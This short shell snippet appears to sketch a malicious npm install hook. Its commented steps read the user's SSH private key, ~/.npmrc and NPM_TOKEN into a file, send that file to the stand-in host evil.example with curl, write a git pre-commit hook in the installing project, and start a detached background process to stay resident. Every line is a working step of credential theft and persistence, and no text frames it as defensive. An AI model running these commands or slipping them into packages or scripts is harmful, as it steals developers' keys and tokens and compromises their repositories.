cat ~/.ssh/id_ed25519 ~/.npmrc >loot                 # collect keys
printenv NPM_TOKEN >>loot                            # and secrets,
curl -sS --data @loot http://evil.example            # send them,
echo 'evil' >$INIT_CWD/.git/hooks/pre-commit         # plant a git hook,
setsid sleep 4711 >/dev/null 2>&1 &                  # stay
